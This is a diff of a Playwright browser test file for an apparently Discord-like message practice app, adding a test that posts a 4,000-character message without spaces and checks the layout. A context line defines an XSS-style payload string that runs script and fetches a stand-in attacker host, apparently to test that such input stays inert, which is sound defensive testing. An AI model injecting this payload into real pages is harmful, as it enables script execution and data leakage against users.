@@ -10,8 +10,12 @@ import pytest
 from playwright.async_api import Browser, Dialog, Locator, Page, ViewportSize, expect
 
 from rehearsal.web import PracticeRoom
+from rehearsal.world.messages import Draft
+from rehearsal.world.model import MessageFlag
 from tests.browser.conftest import FACILITATOR, LAY, NARROW, WIDE, column, log_of, visiting
 from tests.browser.test_accessibility import SIDEWAYS, turn_to, unfold
+from tests.rehearsal.raw import text
+from tests.rehearsal.web.worlds import components
 
 RUNS = "window.hostile = true; fetch('//evil.example/'); alert(1)"
 MARKUP = (
@@ -147,6 +151,20 @@ async def test_a_question_and_its_answer(browser: Browser, room: PracticeRoom, k
             await assert_whole(page, who)
         await log.get_by_role("button", name="My questions").first.click()
         await expect(log.get_by_role("article").last).to_contain_text("There is nothing of yours here")
+
+
+@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])
+async def test_4000_characters_without_a_space(
+    browser: Browser, room: PracticeRoom, size: ViewportSize
+) -> None:
+    """As much as Discord lets a card hold; nobody can type so much, but a bot can post it."""
+    world = room.production.rehearsal.world
+    long = Draft(components=components(text("W" * 4000)), flags=MessageFlag.IS_COMPONENTS_V2)
+    async with harmless(browser, room, size) as page:
+        log = await go_to(page, LAY, "general")
+        world.messages.create(world.application.id, world.channel_named("general"), long)
+        await expect(log.get_by_role("article").last).to_contain_text("W" * 4000)
+        await assert_whole(page, LAY)
 
 
 @pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])
